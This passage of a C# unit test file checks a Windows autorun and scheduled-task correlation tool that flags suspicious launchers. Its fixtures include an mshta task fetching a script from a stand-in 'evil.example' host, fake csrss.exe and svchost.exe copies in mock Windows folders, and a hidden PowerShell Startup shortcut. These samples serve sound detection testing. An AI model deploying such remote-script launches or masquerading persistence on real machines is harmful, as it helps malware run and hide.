        var forward = CorrelationModel.Build(Snapshot(autoruns: entries, tasks: tasks)).Launchers.Select(l => l.Name).ToArray();
        var backward = CorrelationModel.Build(Snapshot(autoruns: entries.Reverse(), tasks: tasks.Reverse())).Launchers.Select(l => l.Name).ToArray();

        Assert.Equal(["a", "z", @"\T1", @"\T2", "b"], forward);
        Assert.Equal(forward, backward);
    }

    [Fact]
    public void ToLink_carries_kind_name_location_full_command_target_and_evidence()
    {
        var snapshot = Snapshot(tasks: [Task(@"\Folder\Job", Exec(@"C:\Tools\job.exe", "-x"))]);

        var link = Single(CorrelationModel.Build(snapshot)).ToLink();

        Assert.Equal("scheduled-task", link.Kind);
        Assert.Equal(@"\Folder\Job", link.Name);
        Assert.Equal(@"\Folder", link.Location);
        Assert.Equal(@"C:\Tools\job.exe -x", link.Command);
        Assert.Equal(@"C:\Tools\job.exe", link.ResolvedTarget);
        Assert.Equal("tasks/Folder/Job.xml", link.Evidence.BundleFile);
    }

    [Fact]
    public void System_sounding_task_pointing_at_a_file_the_host_says_Microsoft_signed_is_medium_not_high()
    {
        const string OneDrive = @"C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe";
        var signature = new HostSignature("Valid", "Embedded", "CN=Microsoft Corporation, O=Microsoft Corporation", "AB");
        var snapshot = Snapshot(
            files: [File(OneDrive, 1, signature: signature)],
            tasks: [Task(@"\OneDrive Standalone Update Task-S-1-5-21-1", Exec(OneDrive, "/reporting"))]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(AnomalySeverity.Medium, FindingOf(launcher, LauncherCodes.TaskSystemNameUserPath)!.Severity);
    }

    [Fact]
    public void Mshta_with_a_URL_is_a_remote_target()
    {
        var snapshot = Snapshot(tasks: [Task(@"\Remote", Exec("mshta.exe", "https://evil.example/a.hta"))]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal("https://evil.example/a.hta", launcher.Target);
        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.RemoteTarget)!.Severity);
        Assert.Null(FindingOf(launcher, LauncherCodes.TargetNotCollected));
    }

    [Fact]
    public void Huge_hostile_command_line_resolves_quickly_and_caps_referenced_paths()
    {
        var hostile = @"cmd /c C:\a b\c d.exe & " + string.Concat(Enumerable.Range(0, 20_000).Select(i => $@"C:\x{i}\C:\y.exe & ""%Z%\"));
        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.RunKey, @"HKCU\Run", "big", hostile)]);
        var clock = System.Diagnostics.Stopwatch.StartNew();

        var correlation = CorrelationModel.Build(snapshot);

        clock.Stop();
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed}");
        Assert.Equal(@"C:\a b\c d.exe", Single(correlation).Target);
        Assert.Single(correlation.LaunchersOf(@"C:\a b\c d.exe"));
        Assert.Equal(32, Single(correlation).ReferencedPaths.Length);
    }

    [Fact]
    public void Mock_Windows_folder_with_a_trailing_space_is_flagged_even_though_it_normalizes_onto_System32()
    {
        var snapshot = Snapshot(tasks: [Task(@"\Sys", Exec("cmd.exe", @"/c ""C:\Windows \System32\csrss.exe"""))]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.MockFolder)!.Severity);
        Assert.Contains(@"C:\Windows \System32\csrss.exe", FindingOf(launcher, LauncherCodes.MockFolder)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void Empty_AppInit_list_is_no_launcher()
    {
        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.AppInitDlls, @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows", "AppInit_DLLs", " ")]);

        Assert.Empty(CorrelationModel.Build(snapshot).Launchers);
    }

    [Fact]
    public void Core_name_in_a_Windows_subfolder_other_than_System32_is_flagged()
    {
        var snapshot = Snapshot(autoruns:
        [
            Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\a", "a", @"C:\Windows\rss\svchost.exe"),
            Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\b", "b", @"C:\Windows\SysWOW64\svchost.exe -k x", index: 1),
        ]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.NotNull(FindingOf(correlation.Launchers.Single(l => l.Name == "a"), LauncherCodes.CoreNameTarget));
        Assert.Null(FindingOf(correlation.Launchers.Single(l => l.Name == "b"), LauncherCodes.CoreNameTarget));
    }

    [Fact]
    public void Running_fake_is_linked_to_the_Startup_item_that_started_its_script_parent()
    {
        // Given: Startup shortcut -> powershell -File run.ps1 -> csrss.exe, all in C:\Users\Public\Libraries
        const string Folder = @"C:\Users\Public\Libraries";
        var explorer = Process(3120, 3000, "explorer.exe", @"C:\Windows\explorer.exe", 1);
        var powershell = new ProcessRecord(8090, 3120, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            $@"powershell.exe -NoProfile -File ""{Folder}\run.ps1""", Boot.AddMinutes(2), 1, null, null, null, null, new EvidenceRef("processes.csv", Row: 8));
        var fake = Process(8112, 8090, "csrss.exe", Folder + @"\csrss.exe", 3);
        var snapshot = Snapshot(
            processes: [explorer, powershell, fake],
            files: [File(Folder + @"\csrss.exe", 1), File(Folder + @"\run.ps1", 2)],
            autoruns:
            [
                Autorun(AutorunKind.StartupFolder, @"C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup", "Libraries.lnk",
                    $@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -WindowStyle Hidden -File ""{Folder}\run.ps1"""),
                Autorun(AutorunKind.RunKey, @"HKCU\Run", "Other", @"C:\Tools\other.exe", index: 1),
            ]);

        // When
        var correlation = CorrelationModel.Build(snapshot);

        // Then the shortcut starts the file through the script (the living powershell parent runs run.ps1), so the
        // file, not only its folder, is linked; and so is its running process
        Assert.Equal("Libraries.lnk", Assert.Single(correlation.LaunchersOf(Folder + @"\csrss.exe")).Name);
        Assert.Empty(correlation.LaunchersInFolderOf(Folder + @"\csrss.exe"));
        Assert.Empty(correlation.LaunchersInFolderOf(Folder + @"\run.ps1"));
        Assert.Equal("Libraries.lnk", Assert.Single(correlation.LaunchersOf(fake)).Name);
        Assert.Empty(correlation.LaunchersOf(explorer));
    }
}
